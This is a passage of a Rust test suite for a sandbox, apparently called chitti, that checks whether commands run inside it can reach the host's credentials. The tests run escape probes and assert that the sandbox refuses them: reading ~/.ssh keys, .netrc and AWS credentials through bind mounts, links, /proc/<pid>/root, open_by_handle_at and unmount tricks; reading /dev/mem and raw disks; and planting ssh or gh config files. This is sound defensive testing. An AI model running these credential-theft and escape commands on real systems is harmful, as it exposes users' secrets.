    assert_eq!(ran.code, Some(125), "the call must be refused\n{ran}");
    assert!(
        ran.stderr_str()
            .contains("under another name (a second mount"),
        "the refusal must say why\n{ran}"
    );
    assert_absent(
        &decoys.path(".ssh/planted"),
        "write through a second mount",
        &ran,
    );
    assert_no_secret(&decoys.secret, "read the workspace that is ~/.ssh", &ran);
}

/// The whole disk mounted a second time (as a bind of `/` shows it): every credential
/// location is under that mount too, and Landlock must not grant, under the second names,
/// the directories on the way to the first.
#[backends]
fn escape_read_credentials_through_a_second_mount_of_the_whole_disk(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let disk = fx.outside("disk");
    std::fs::create_dir(&disk).unwrap();
    let again = |path: &Path| sh_quote(format!("{}{}", disk.display(), path.display()));
    let ran = fx.chitti(backend).sh_with_binds(
        &probe(&format!(
            "cat {k} {n} {a}; ls -a {s}; cat ~/.ssh/id_rsa ~/.netrc; cat {note}",
            k = again(&decoys.path(".ssh/id_rsa")),
            n = again(&decoys.path(".netrc")),
            a = again(&decoys.path(".aws/credentials")),
            s = again(&decoys.path(".ssh")),
            note = again(&decoys.path("notes.txt")),
        )),
        &[(Path::new("/"), disk.as_path())],
        true,
    );
    assert_hidden(
        &ran,
        &decoys.secret,
        &decoys.note,
        "read a credential through the disk mounted twice",
    );
}

/// The layout of btrfs subvolumes with the top level mounted too: HOME lies on a mount of
/// `pool/@home`, inside a mount of `pool/@`, and `pool` itself is visible. The keys must
/// stay hidden under both names, and `pool/@` must not be granted as an unrelated
/// directory (it is the directory on the way to HOME).
#[backends]
fn escape_read_credentials_when_home_is_a_mount_of_a_visible_directory(backend: &str) {
    let fx = Fixture::new();
    let (pool, sys) = (fx.outside("pool"), fx.outside("sys"));
    let (top, homes) = (pool.join("@"), pool.join("@home"));
    let user = homes.join("u");
    for dir in [
        top.join("home"),
        user.join(".ssh"),
        user.join("proj"),
        sys.clone(),
    ] {
        std::fs::create_dir_all(dir).unwrap();
    }
    let (secret, note) = (marker("SECRET"), marker("NOTE"));
    write(&user.join(".ssh/id_rsa"), format!("{secret}\n"));
    write(&user.join("notes.txt"), format!("{note}\n"));
    let home = sys.join("home/u");
    let sys_home = sys.join("home");
    let ran = fx
        .chitti(backend)
        .env("HOME", &home)
        .workspace(home.join("proj"))
        .cwd(user.join("proj"))
        .sh_with_binds(
            &probe(&format!(
                "cat ~/.ssh/id_rsa {u}/.ssh/id_rsa; ls -a ~/.ssh; grep -r . {t}; cat ~/notes.txt",
                u = sh_quote(&user),
                t = sh_quote(&pool),
            )),
            &[(&top, &sys), (&homes, &sys_home)],
            false,
        );
    assert_hidden(
        &ran,
        &secret,
        &note,
        "read a credential of a home on a second mount",
    );
}

/// A directory mounted inside ~/.ssh is part of it: its source, elsewhere on the host,
/// must be hidden as well.
#[backends]
fn escape_read_the_source_of_a_mount_inside_a_credential_location(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let source = fx.outside("real-keys");
    let target = decoys.path(".ssh/keys");
    std::fs::create_dir_all(&source).unwrap();
    std::fs::create_dir_all(&target).unwrap();
    write(&source.join("id_work"), format!("{}\n", decoys.secret));
    let plain = fx.outside("plain.txt");
    write(&plain, format!("{}\n", decoys.note));
    let ran = fx.chitti(backend).sh_with_binds(
        &probe(&format!(
            "cat {s}/id_work; ls -a {s}; cat ~/.ssh/keys/id_work; cat {p}",
            s = sh_quote(&source),
            p = sh_quote(&plain),
        )),
        &[(&source, &target)],
        false,
    );
    assert_hidden(
        &ran,
        &decoys.secret,
        &decoys.note,
        "read the source of a mount in ~/.ssh",
    );
}

/// ~/.config/gh is a mount of its own, and ~/.config is bound elsewhere without it: the
/// second name shows no credential, but it is the directory Landlock checks on the way to
/// ~/.config/gh, so a workspace there would grant the keys. Refused before anything runs.
#[backends]
fn escape_workspace_on_another_name_of_a_directory_above_a_credential_location(backend: &str) {
    let fx = Fixture::new();
    // Nothing else under ~/.config: another credential there would be found by name.
    let secret = marker("SECRET");
    let (gh, config_again) = (fx.outside("gh-source"), fx.outside("config-again"));
    for dir in [&gh, &config_again] {
        std::fs::create_dir(dir).unwrap();
    }
    write(&gh.join("hosts.yml"), format!("{secret}\n"));
    let config = fx.home(".config");
    let config_gh = config.join("gh");
    std::fs::create_dir_all(&config_gh).unwrap();
    let ran = fx.chitti(backend).workspace(&config_again).sh_with_binds(
        "cat ~/.config/gh/hosts.yml; echo planted > planted; echo planted > gh/planted",
        &[(&gh, &config_gh), (&config, &config_again)],
        false,
    );
    assert_eq!(ran.code, Some(125), "the call must be refused\n{ran}");
    assert!(
        ran.stderr_str().contains("under another name"),
        "the refusal must say why\n{ran}"
    );
    assert_absent(&config.join("planted"), "write through another name", &ran);
    assert_absent(&gh.join("planted"), "write through another name", &ran);
    assert_no_secret(&secret, "read a credential below the workspace", &ran);
}

/// ~/.config/gh is a mount of its own, and ~/.config is bound beside it without it: the
/// second name holds no credential, but granting it (it is a sibling of nothing hidden)
/// would grant the directory Landlock checks on the way to ~/.config/gh.
#[backends]
fn escape_read_credentials_below_a_directory_with_another_name(backend: &str) {
    let fx = Fixture::new();
    let secret = marker("SECRET");
    let gh = fx.outside("gh-source");
    std::fs::create_dir(&gh).unwrap();
    write(&gh.join("hosts.yml"), format!("{secret}\n"));
    let config = fx.home(".config");
    let (config_gh, config_again) = (config.join("gh"), fx.home("config-again"));
    for dir in [&config_gh, &config_again] {
        std::fs::create_dir_all(dir).unwrap();
    }
    let note = marker("NOTE");
    write(&config.join("notes.txt"), format!("{note}\n"));
    let ran = fx.chitti(backend).sh_with_binds(
        &probe("cat ~/.config/gh/hosts.yml; grep -r . ~/.config; cat ~/config-again/notes.txt"),
        &[(&gh, &config_gh), (&config, &config_again)],
        false,
    );
    assert_hidden(
        &ran,
        &secret,
        &note,
        "read below a directory with another name",
    );
}

/// The same bind mount made twice at one place (the second hides the first): the name
/// leads to the credential through the top one, and must be hidden all the same.
#[backends]
fn escape_read_credentials_through_a_second_mount_made_twice(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let (keys, home_again) = (fx.outside("keys"), fx.outside("home-again"));
    for dir in [&keys, &home_again] {
        std::fs::create_dir(dir).unwrap();
    }
    let ssh = decoys.path(".ssh");
    let ran = fx.chitti(backend).sh_with_binds(
        &probe(&format!(
            "cat {k}/id_rsa {h}/.netrc {h}/.ssh/id_ed25519; cat {h}/notes.txt",
            k = sh_quote(&keys),
            h = sh_quote(&home_again),
        )),
        &[
            (&ssh, &keys),
            (&ssh, &keys),
            (&fx.home, &home_again),
            (&fx.home, &home_again),
        ],
        false,
    );
    assert_hidden(
        &ran,
        &decoys.secret,
        &decoys.note,
        "read through a bind mount made twice",
    );
}

/// A second name of ~/.ssh inside a directory its owner cannot search (mode 000): chitti
/// cannot check the name, but the command could chmod the directory back (Landlock does not
/// govern modes), so the name is hidden all the same.
#[backends]
fn escape_read_credentials_through_a_second_mount_behind_a_locked_directory(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let locked = fx.outside("locked");
    let keys = locked.join("keys");
    std::fs::create_dir_all(&keys).unwrap();
    set_mode(&locked, 0o000);
    let ssh = decoys.path(".ssh");
    let ran = fx.chitti(backend).sh_with_binds(
        &probe(&format!(
            "chmod 700 {l}; cat {l}/keys/id_rsa; ls {l}/keys; cat ~/notes.txt",
            l = sh_quote(&locked)
        )),
        &[(&ssh, &keys)],
        false,
    );
    set_mode(&locked, 0o755);
    assert_hidden(
        &ran,
        &decoys.secret,
        &decoys.note,
        "read a name behind a directory made searchable",
    );
}

/// ~/.ssh bound into a directory that is itself a mount of a directory visible elsewhere
/// (and bound a third time): the second name's way passes directories that have other
/// names, which Landlock must not grant.
#[backends]
fn escape_read_credentials_through_a_second_mount_inside_a_mount_with_other_names(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let (source, x, y) = (fx.outside("x-source"), fx.outside("x"), fx.outside("y"));
    for dir in [&source.join("keys"), &x, &y] {
        std::fs::create_dir_all(dir).unwrap();
    }
    write(&source.join("note.txt"), format!("{}\n", decoys.note));
    let (ssh, x_keys) = (decoys.path(".ssh"), x.join("keys"));
    let ran = fx.chitti(backend).sh_with_binds(
        &probe(&format!(
            "cat {x}/keys/id_rsa {x}/keys/id_ed25519; ls {y} {s}; cat {y}/note.txt",
            x = sh_quote(&x),
            y = sh_quote(&y),
            s = sh_quote(&source),
        )),
        &[(&source, &x), (&ssh, &x_keys), (&x, &y)],
        false,
    );
    assert_hidden(
        &ran,
        &decoys.secret,
        &decoys.note,
        "read a name whose way has other names",
    );
}

/// A workspace that is another name of ~/.config, where no credential exists yet: the
/// command could create ~/.config/gh/hosts.yml (a file `gh` then trusts) through it, as
/// a workspace of ~/.config itself could, which is refused.
#[backends]
fn escape_workspace_on_another_name_of_a_directory_for_credentials_to_come(backend: &str) {
    let fx = Fixture::new();
    let config = fx.home(".config");
    let config_again = fx.outside("config-again");
    for dir in [&config, &config_again] {
        std::fs::create_dir_all(dir).unwrap();
    }
    let ran = fx.chitti(backend).workspace(&config_again).sh_with_binds(
        "mkdir -p gh && echo 'git_protocol: planted' > gh/hosts.yml",
        &[(&config, &config_again)],
        false,
    );
    assert_eq!(ran.code, Some(125), "the call must be refused\n{ran}");
    assert!(
        ran.stderr_str().contains("under another name"),
        "the refusal must say why\n{ran}"
    );
    assert_absent(
        &config.join("gh"),
        "create a credential through another name",
        &ran,
    );
}

/// Credentials under a directory their owner closed (mode 000): chitti cannot see them,
/// but the command could open the directory again (Landlock does not govern modes), so
/// the closed directory is hidden whole.
#[backends]
fn escape_read_credentials_under_a_directory_closed_to_its_owner(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let config = fx.home(".config");
    set_mode(&config, 0o000);
    let ran = fx.chitti(backend).sh(&probe(
        "chmod 755 ~/.config; cat ~/.config/gh/hosts.yml ~/.config/chitti/config.toml; \
         cat ~/notes.txt",
    ));
    set_mode(&config, 0o755);
    assert_hidden(
        &ran,
        &decoys.secret,
        &decoys.note,
        "open a closed directory again",
    );
}

/// ~/.ssh and ~/.config are links into a directory closed to its owner (mode 000):
/// chitti cannot look through them, and the command could open the directory again
/// (Landlock does not govern modes), so the closed directory itself, where the links
/// lead, is hidden whole.
#[backends]
fn escape_read_credentials_through_links_into_a_closed_directory(backend: &str) {
    let fx = Fixture::new();
    let (secret, note) = (marker("SECRET"), marker("NOTE"));
    let vault = fx.outside("vault");
    write(&vault.join("ssh/id_rsa"), format!("{secret}\n"));
    write(&vault.join("cfg/gh/hosts.yml"), format!("{secret}\n"));
    write(&fx.home("notes.txt"), format!("{note}\n"));
    std::os::unix::fs::symlink(vault.join("ssh"), fx.home(".ssh")).unwrap();
    std::os::unix::fs::symlink(vault.join("cfg"), fx.home(".config")).unwrap();
    set_mode(&vault, 0o000);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "chmod 700 {v}; cat {v}/ssh/id_rsa {v}/cfg/gh/hosts.yml ~/.ssh/id_rsa; cat ~/notes.txt",
        v = sh_quote(&vault)
    )));
    set_mode(&vault, 0o755);
    assert_hidden(
        &ran,
        &secret,
        &note,
        "open a closed directory behind a link",
    );
}

/// A profile's `deny_read` naming ~/.config, which holds a built-in location (~/.config/gh):
/// all of ~/.config stays unreadable, not only gh.
#[backends]
fn escape_read_a_profile_denied_directory_that_holds_a_built_in_location(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    write(
        &fx.home(".config/app/token"),
        format!("{}\n", decoys.secret),
    );
    let profile = fx.profile(
        "no-config",
        "[filesystem]\ndeny_read = [\"{home}/.config\"]\n",
    );
    let ran = fx.chitti(backend).profile(&profile).sh(&probe(
        "cat ~/.config/app/token; grep -r . ~/.config; cat ~/notes.txt",
    ));
    assert_hidden(
        &ran,
        &decoys.secret,
        &decoys.note,
        "read beside a built-in location in a denied directory",
    );
}

/// ~/.config is a link into the workspace (a dotfiles repository), and ~/.config/gh does
/// not exist yet: the command could create it there, and `gh` would trust it. Refused, as
/// for a credential location that exists.
#[backends]
fn escape_workspace_holding_a_credential_location_to_come_behind_a_link(backend: &str) {
    let fx = Fixture::new();
    let dotfiles = fx.outside("dotfiles");
    std::fs::create_dir_all(dotfiles.join("config")).unwrap();
    std::os::unix::fs::symlink(dotfiles.join("config"), fx.home(".config")).unwrap();
    let ran = fx
        .chitti(backend)
        .workspace(&dotfiles)
        .cwd(&dotfiles)
        .sh("mkdir -p config/gh && echo 'git_protocol: planted' > config/gh/hosts.yml");
    assert_eq!(ran.code, Some(125), "the call must be refused\n{ran}");
    assert!(
        ran.stderr_str()
            .contains("overlaps the credential location"),
        "the refusal must say why\n{ran}"
    );
    assert_absent(
        &dotfiles.join("config/gh"),
        "create a credential behind a link",
        &ran,
    );
}

/// ~/.config is a link into the workspace that leads nowhere yet: the command could make
/// its target and plant ~/.config/gh/hosts.yml there. Refused before anything runs.
#[backends]
fn escape_workspace_where_a_dangling_link_to_credentials_leads(backend: &str) {
    let fx = Fixture::new();
    std::os::unix::fs::symlink(fx.ws("cfg"), fx.home(".config")).unwrap();
    let ran = fx
        .chitti(backend)
        .sh("mkdir -p cfg/gh && echo 'git_protocol: planted' > cfg/gh/hosts.yml");
    assert_eq!(ran.code, Some(125), "the call must be refused\n{ran}");
    assert!(
        ran.stderr_str()
            .contains("not there yet; it would be created at"),
        "the refusal must say why\n{ran}"
    );
    assert_absent(
        &fx.ws("cfg"),
        "plant a credential through a dangling link",
        &ran,
    );
}

/// ~/.ssh leads through a link inside the workspace (a dotfiles repository whose `ssh`
/// links to keys kept out of it): the command could point that link at a directory of its
/// own, with a `config` whose ProxyCommand `ssh` would run. Refused before anything runs.
#[backends]
fn escape_workspace_holding_a_link_on_the_way_to_credentials(backend: &str) {
    let fx = Fixture::new();
    let (dotfiles, private) = (fx.outside("dotfiles"), fx.outside("private"));
    let secret = marker("SECRET");
    write(&private.join("ssh/id_ed25519"), format!("{secret}\n"));
    std::fs::create_dir_all(&dotfiles).unwrap();
    std::os::unix::fs::symlink("../private/ssh", dotfiles.join("ssh")).unwrap();
    std::os::unix::fs::symlink(dotfiles.join("ssh"), fx.home(".ssh")).unwrap();
    let ran = fx.chitti(backend).workspace(&dotfiles).cwd(&dotfiles).sh(
        "rm ssh && mkdir evil && printf 'Host *\\n  ProxyCommand true\\n' > evil/config && ln -s evil ssh",
    );
    assert_eq!(ran.code, Some(125), "the call must be refused\n{ran}");
    assert!(
        ran.stderr_str()
            .contains("a link on the way to the credential location"),
        "the refusal must say why\n{ran}"
    );
    assert_absent(
        &dotfiles.join("evil"),
        "redirect a link on the way to ~/.ssh",
        &ran,
    );
    assert_eq!(
        std::fs::read_link(dotfiles.join("ssh")).unwrap(),
        Path::new("../private/ssh"),
        "the link was replaced\n{ran}"
    );
    assert_no_secret(&secret, "read the keys behind the link", &ran);
}

#[backends]
fn escape_read_credentials_via_symlink_created_at_runtime(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let ran = fx.chitti(backend).sh(&probe(
        "ln -s ~/.ssh/id_rsa k; cat k; ln -s ~/.ssh s; cat s/id_ed25519; ln -s ~ h; cat h/.kube/config; \
         cp -L k copied-key; cat copied-key",
    ));
    ran.assert_probe_ran();
    assert_no_secret(
        &decoys.secret,
        "read a credential through a runtime symlink",
        &ran,
    );
    let copies = files_containing(&fx.ws, &decoys.secret);
    assert!(
        copies.is_empty(),
        "ESCAPE (copy a credential into the workspace): {copies:?}\n{ran}"
    );
}

#[backends]
fn escape_read_credentials_via_hardlink_created_at_runtime(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let ran = fx.chitti(backend).sh(&probe(
        "ln ~/.ssh/id_rsa hard-key; cat hard-key; ln ~/.netrc hard-netrc; cat hard-netrc",
    ));
    ran.assert_probe_ran();
    assert_no_secret(
        &decoys.secret,
        "read a credential through a runtime hard link",
        &ran,
    );
    let copies = files_containing(&fx.ws, &decoys.secret);
    assert!(
        copies.is_empty(),
        "ESCAPE (hard link a credential into the workspace): {copies:?}\n{ran}"
    );
}

#[backends]
fn escape_read_credentials_via_copy_into_workspace(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let ran = fx.chitti(backend).sh(&probe(
        "cp -r ~/.ssh ssh-copy; cp ~/.aws/credentials aws-copy; tar cf home.tar -C ~ . ; \
         cat ~/.netrc > netrc-copy; dd if=$HOME/.kube/config of=kube-copy",
    ));
    ran.assert_probe_ran();
    let copies = files_containing(&fx.ws, &decoys.secret);
    assert!(
        copies.is_empty(),
        "ESCAPE (copy credentials into the workspace): the host finds the secret in {copies:?}\n{ran}"
    );
    assert_no_secret(&decoys.secret, "copy credentials into the workspace", &ran);
}

#[backends]
fn escape_read_credentials_via_find_exec_cat(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let ran = fx.chitti(backend).sh(&probe(
        "find ~ -type f -exec cat {} + 2>/dev/null; find ~ -name 'id_*' -exec cat {} \\; ; \
         find / -xdev -path '*/.ssh/*' -name id_rsa -exec cat {} \\; 2>/dev/null",
    ));
    ran.assert_probe_ran();
    assert!(
        ran.stdout_str().contains(&decoys.note),
        "control: find ~ must still reach ~/notes.txt\n{ran}"
    );
    assert_no_secret(&decoys.secret, "find ~ -exec cat", &ran);
}

#[backends]
fn escape_read_credentials_via_python_os_walk(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let script = probe_py(
        r#"
import os
for root, dirs, files in os.walk(os.path.expanduser("~"), followlinks=True):
    for name in files:
        p = os.path.join(root, name)
        try:
            print(p, open(p, errors="replace").read())
        except OSError as e:
            print(p, "denied:", e)
"#,
    );
    let ran = fx.chitti(backend).py(&script, &[]);
    ran.assert_probe_ran();
    assert!(
        ran.stdout_str().contains(&decoys.note),
        "control: os.walk must reach ~/notes.txt\n{ran}"
    );
    assert_no_secret(&decoys.secret, "python os.walk(~)", &ran);
}

/// Through /proc/<pid>/root of a host process, and /proc/self/root.
#[backends]
fn escape_read_credentials_via_proc_pid_root(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let host = HostProcess::sleep();
    let key = decoys.path(".ssh/id_rsa");
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "cat /proc/{pid}/root{k}; cat /proc/self/root{k}; cat /proc/1/root{k}; cat /proc/{pid}/cwd/{k}",
        pid = host.pid,
        k = key.display(),
    )));
    ran.assert_probe_ran();
    assert_no_secret(
        &decoys.secret,
        "read a credential through /proc/<pid>/root",
        &ran,
    );
}

/// Undoing the mounts that hide credentials from a sandbox started by root (Landlock
/// backend: a private mount namespace, /dev/null over files, an empty tmpfs over
/// directories), or going around them: unmount, lazy unmount, remount, a new mount
/// namespace, a bind mount of /, and /proc/<pid>/root of the parent (on Landlock the
/// supervisor, outside the namespace). For other users and on bwrap the attempts must
/// fail all the same. Judged from the host too: no mount of the sandbox's may show in the
/// host's mount table, and the decoys must still be there, unchanged.
#[backends]
fn escape_unmask_hidden_credentials(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let key = decoys.path(".ssh/id_rsa");
    let ssh = key.parent().unwrap().to_path_buf();
    let netrc = decoys.path(".netrc");
    let before = std::fs::read(&key).unwrap();
    let (k, d, n) = (sh_quote(&key), sh_quote(&ssh), sh_quote(&netrc));
    let mut script = String::new();
    for target in [&k, &d, &n] {
        script += &format!(
            "umount {target}; umount -l {target}; mount -o remount,rw {target}; \
             mount --bind / {target}; "
        );
    }
    script += &format!(
        "cat {k} {n}; ls -a {d}; \
         unshare -m sh -c {inner}; unshare -rm sh -c {inner}; \
         mkdir -p view && mount --bind / view && cat view{k} view{n}; \
         cat /proc/$PPID/root{k} /proc/$PPID/root{n}; ls /proc/$PPID/root{d}; \
         cat ~/notes.txt",
        inner = sh_quote(format!("umount -l {d}; umount -l {n}; cat {k} {n}")),
    );
    let ran = fx.chitti(backend).sh(&probe(&script));
    ran.assert_probe_ran();
    assert!(
        ran.stdout_str().contains(&decoys.note),
        "control: ~/notes.txt (not a credential) must stay readable\n{ran}"
    );
    assert_no_secret(&decoys.secret, "unmount or go around the masks", &ran);
    let host_mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    let home = fx.home("").display().to_string();
    let home = home.trim_end_matches('/');
    assert!(
        !host_mounts.contains(home),
        "a mount made for the sandbox shows on the host:\n{host_mounts}\n{ran}"
    );
    assert_eq!(
        std::fs::read(&key).unwrap(),
        before,
        "the decoy key changed on the host\n{ran}"
    );
}

/// name_to_handle_at + open_by_handle_at bypass path checks.
#[backends]
fn escape_read_credentials_via_open_by_handle_at(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let script = probe_py(&py_syscalls(
        r#"
import ctypes
path = sys.argv[1].encode()
class FH(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
fh = FH(); fh.bytes = 128
mnt = ctypes.c_int(0)
r, e = call(303, -100, path, ctypes.byref(fh), ctypes.byref(mnt), 0)
print("name_to_handle_at", r, e)
mfd = os.open("/", os.O_RDONLY)
r, e = call(304, mfd, ctypes.byref(fh), os.O_RDONLY)
print("open_by_handle_at", r, e)
if r >= 0:
    print(os.read(r, 4096))
"#,
    ));
    let key = decoys.path(".ssh/id_rsa").display().to_string();
    let ran = fx.chitti(backend).py(&script, &[&key]);
    ran.assert_probe_ran();
    assert_no_secret(&decoys.secret, "open_by_handle_at on a credential", &ran);
}

// ---------------------------------------------------------------------------------------
// Devices and kernel memory
// ---------------------------------------------------------------------------------------

/// Raw block devices (found with `ls /dev` on the host), /dev/mem, /dev/kmem, /dev/port
/// and /proc/kcore: the sandbox reports how many bytes it read from each.
#[backends]
fn escape_read_raw_block_devices_and_kernel_memory(backend: &str) {
    use std::os::unix::fs::FileTypeExt;
    let fx = Fixture::new();
    let mut targets: Vec<String> = Vec::new();
    for entry in std::fs::read_dir("/dev").expect("list /dev").flatten() {
        if entry
            .file_type()
            .map(|t| t.is_block_device())
            .unwrap_or(false)
        {
            targets.push(entry.path().display().to_string());
        }
    }
    for special in ["/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore"] {
        if Path::new(special).exists() {
            targets.push(special.to_string());
        }
    }
    assert!(
        !targets.is_empty(),
        "this machine has no block device, /dev/mem or /proc/kcore to probe"
    );
    let script = probe_py(
        r#"
import sys
for dev in sys.argv[1:]:
    try:
        with open(dev, "rb") as f:
            data = f.read(4096)
        print("READ", dev, len(data))
    except OSError as e:
        print("denied", dev, e)
"#,
    );
    let args: Vec<&str> = targets.iter().map(String::as_str).collect();
    let ran = fx.chitti(backend).py(&script, &args);
    ran.assert_probe_ran();
    let read: Vec<String> = ran
        .stdout_str()
        .lines()
        .filter(|l| l.starts_with("READ ") && !l.ends_with(" 0"))
        .map(str::to_string)
        .collect();
    assert!(
        read.is_empty(),
        "ESCAPE (read raw devices / kernel memory): {read:?}\n{ran}"
    );
}

/// A Python probe: `body` then `print("PROBE-DONE")`.
fn probe_py(body: &str) -> String {
    format!("{body}\nprint({DONE:?})\n")
}
